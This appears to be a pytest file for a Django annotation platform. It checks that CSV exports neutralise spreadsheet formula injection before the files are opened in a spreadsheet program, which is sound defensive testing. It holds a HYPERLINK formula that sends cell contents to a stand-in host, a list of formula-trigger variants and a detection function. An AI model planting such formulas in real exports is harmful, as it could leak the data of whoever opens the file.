"""Texts that a spreadsheet program would run when somebody opens what Attest exports."""

import csv
import io
from dataclasses import asdict

import pytest
from django.core.management import CommandError, call_command
from django.urls import get_resolver, reverse

from annotate.content import notes
from annotate.content.judgments import record_judgment
from annotate.exchange.streams import judgments_csv
from annotate.models import Batch, Judge, Judgment, Response, Role, Unit
from annotate.people import crowd, members
from annotate.rating import answering, inquiries
from annotate.rating.task_steps import steps_of
from annotate.studies.lifecycle import create_study
from evaluation.models import Report, ReportComparison
from evaluation.report_pages.sharing import share
from evaluation.reports.filters import Filters
from evaluation.reports.numbers import dumps
from evaluation.reports.shape.report import VERSION
from evaluation.reports.tables.table import Column, Table
from tests.annotate.cups import GLASS
from tests.annotate.desk import claim
from tests.annotate.loading import load, response
from tests.annotate.rating import open_work
from tests.evaluation.reports.sample import sample
from tests.shared_rows import shared_rows
from tests.uploads.steps import loaded

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Open")'
OTHERS = ("+1+1", "-1+1", "@SUM(A1)", "\t=1", " =1+1", '"=1+1"', "\u200b=1", "＝1+1", "'=1+1")
OUTPUT = "=2+3 is what cups are made of [1] or plastic [2][1]."

READ_BY_PEOPLE = {
    "download-inquiries",
    "participants-csv",
    "participants-mturk",
    "report-table",
    "report-comparison-table",
    "shared-table",
    "audit-log-csv",
    "audit-logs-csv",
}
"""Always harmless."""

TABLES = {
    "download-judgments": ("csv",),
    "download-evidence": (),
    "download-flags": (),
    "download-claims": (),
    "download-notes": (),
    "download-labels": (),
    "download-exchange": ("aqa-ratings",),
    "api-judgments": ("csv",),
    "api-labels": (),
    "api-exchange": ("aqa-ratings",),
    "api-beside": ("evidence",),
}
"""Harmless with `?for=spreadsheet`, with what their addresses say besides the study."""


def runs(cell):
    """Whether a program may run it: what it passes over, then a sign that begins a formula."""
    if cell[:1] in {"\t", "\r", "\n"}:
        return True
    rest = cell.lstrip(' \t\r\n\u00a0\u200b\ufeff"“”')
    try:
        float(rest)
    except ValueError:
        return rest[:1] in set("=+-@＝＋－＠")
    return False


def cells_of(answer):
    assert answer.status_code == 200, answer.content
    assert answer["Content-Type"].startswith("text/csv")
    content = b"".join(answer) if answer.streaming else answer.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@shared_rows
def study(alice):
    """Whatever others than its researchers write is a formula, and so are names in its files."""
    made = create_study(name="Cups", slug="cups", preset="aliice", owner=alice)
    passages = tuple((FORMULA, f"{FORMULA} {n}") for n in (1, 2))
    load(made, [response(OUTPUT, system=FORMULA, passages=passages)])
    crowded = open_work(made, audience=Batch.Audience.LINK, completion_code="C0DE")
    for number, text in enumerate((FORMULA, *OTHERS)):
        if text.isprintable():  # other ids are refused
            crowd.arrive(crowded, platform="mturk", external_id=text, session=text, project=text)
        made.judges.create(name=f"={number}", kind=Judge.Kind.SIMULATED)
    part = crowded.enrolments.order_by("pk").first()
    assert part
    rater = crowd.judge_behind(part)
    rater.name = FORMULA
    rater.save()
    task = claim(crowded, rater)
    fill(task, part.participant.user)
    for judge, note in zip(made.judges.filter(kind="simulated"), (FORMULA, *OTHERS), strict=True):
        for dimension in ("utility", "attributable"):
            value = {"utility": "4", "attributable": "yes"}[dimension]
            unit = Unit.objects.get(key="r")
            record_judgment(judge=judge, unit=unit, dimension=dimension, value=value, note=note)
    notes.write(Response.objects.get(), text=FORMULA, author=alice)
    return made


def fill(task, user):
    for step in steps_of(task.batch, task.item):
        dimension = step.dimension
        answering.save_answer(
            task,
            step,
            value="no" if dimension.key == "claim_recall" else dimension.choices[0].value,
            words=GLASS if dimension.writes else "",
            note=FORMULA,
        )
        answering.set_flag(task, step, reason="other", note=FORMULA)
        inquiries.ask(task, step, text=FORMULA, author=user)
        for source in step.sources[:1]:
            answering.mark(task, step, source, (0, len(FORMULA)))
    answering.finish(task)


@pytest.mark.parametrize("name", TABLES)
def test_no_cell_runs(study, name, alice, signed_in):
    address = reverse(name, args=["cups", *TABLES[name]])
    client = signed_in(alice)
    rows = cells_of(client.get(address, {"for": "spreadsheet"}))
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if runs(cell)] == []
    plain = cells_of(client.get(address))
    assert [cell for row in plain for cell in row if runs(cell)], "as it is, it would"
    assert {row[-1] for row in rows} == {"attest_form", "spreadsheet"}
    refused = 400 if address.startswith("/api/") else 404
    for wanted in ({"for": "calculator"}, {"for": "spreadsheet "}):
        assert client.get(address, wanted).status_code == refused


@pytest.mark.parametrize("name", sorted(READ_BY_PEOPLE))
def test_what_people_read_never_runs(study, name, alice, signed_in):
    study.batches.get().enrolments.update(finished_at="2026-01-01T00:00:00Z")
    of = [study.batches.get().pk]
    if name in {"download-inquiries", "audit-log-csv", "audit-logs-csv"}:
        of = []
        members.invite(study, role=Role.RATER, author=alice, label=FORMULA)
    elif name in {"report-table", "shared-table"}:
        report = Report.objects.create(
            study=study,
            version=VERSION,
            state=Report.State.DONE,
            body=dumps(sample()),
            filters_digest=Filters().digest,
        )
        of = [report.pk, "people"]
    elif name == "report-comparison-table":
        columns = (Column("system", "System"),)
        named = Table("people", FORMULA, "", columns, ((FORMULA,), ("=1",)))
        made = ReportComparison.objects.create(
            study=study,
            key="k",
            sides=[],
            state=ReportComparison.State.DONE,
            body=dumps({"tables": [asdict(named)]}),
        )
        of = [made.pk, "people"]
    if name == "audit-logs-csv":
        alice.is_staff = True
        alice.save()
    elif name == "shared-table":
        of = [share(study, Filters(), by=alice, days=1, with_texts=False), "people"]
    else:
        of = ["cups", *of]
    rows = cells_of(signed_in(alice).get(reverse(name, args=of)))
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if runs(cell)] == []


def test_no_address_of_a_table_is_forgotten():
    found = {
        pattern.name
        for pattern in patterns(get_resolver().url_patterns)
        if ".csv" in str(pattern.pattern)
        or pattern.name
        in {"download-judgments", "download-exchange", "api-judgments", "api-exchange"}
    }
    assert found == TABLES.keys() | READ_BY_PEOPLE


def patterns(some):
    for one in some:
        if hasattr(one, "url_patterns"):
            yield from patterns(one.url_patterns)
        else:
            yield one


@pytest.mark.parametrize(
    "command",
    [
        ["export_judgments", "cups"],
        ["aggregate", "cups"],
        ["export_published", "cups", "--format", "aqa-ratings"],
    ],
)
def test_commands_write_it_too(study, command, tmp_path):
    path = tmp_path / "some.csv"
    call_command(*command, "--spreadsheet", "--output", str(path))
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if runs(cell)] == []


def test_what_is_no_table_has_no_such_form(study, alice, signed_in):
    with pytest.raises(CommandError, match="is for CSV"):
        call_command("export_judgments", "cups", "--format", "jsonl", "--spreadsheet")
    address = reverse("download-judgments", args=["cups", "jsonl"])
    assert signed_in(alice).get(address, {"for": "spreadsheet"}).status_code == 404


def test_what_was_made_harmless_is_read_back_as_it_was(study, alice, signed_in):
    before = "".join(judgments_csv(study))
    address = reverse("download-judgments", args=["cups", "csv"])
    safe = b"".join(signed_in(alice).get(address, {"for": "spreadsheet"}))
    Judgment.objects.all().delete()
    loaded(study, safe, "judgments.csv")
    assert "".join(judgments_csv(study)) == before
